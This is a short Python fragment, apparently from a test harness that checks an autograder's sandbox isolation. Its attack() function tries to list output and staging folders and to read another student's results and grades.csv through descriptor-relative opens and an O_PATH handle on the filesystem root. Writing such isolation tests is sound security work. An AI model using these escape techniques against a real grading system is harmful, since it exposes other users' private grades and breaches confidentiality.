# Reading the batch's output: the classmates' results (grades, messages) and the staging folder where
# zipped submissions are unpacked.


def attack():
    out = TARGETS["out_dir"]
    ok, out_fd = attempt(f"open the batch output folder {out}", lambda: open_dir(out))
    if ok:
        attempt("list the output folder through its descriptor", lambda: os.listdir(out_fd))
        attempt("list results/ through the descriptor", lambda: os.listdir(os.open("results", os.O_RDONLY | os.O_DIRECTORY, dir_fd=out_fd)))
        attempt("list .staging/ through the descriptor", lambda: os.listdir(os.open(".staging", os.O_RDONLY | os.O_DIRECTORY, dir_fd=out_fd)), real=False)
    base = os.open("/", os.O_PATH)
    for name in ("results/victim.json", "grades.csv"):
        relative = os.path.join(out, name).lstrip("/")
        attempt(f"openat(O_PATH '/', {relative!r})", lambda: read_at(base, relative))
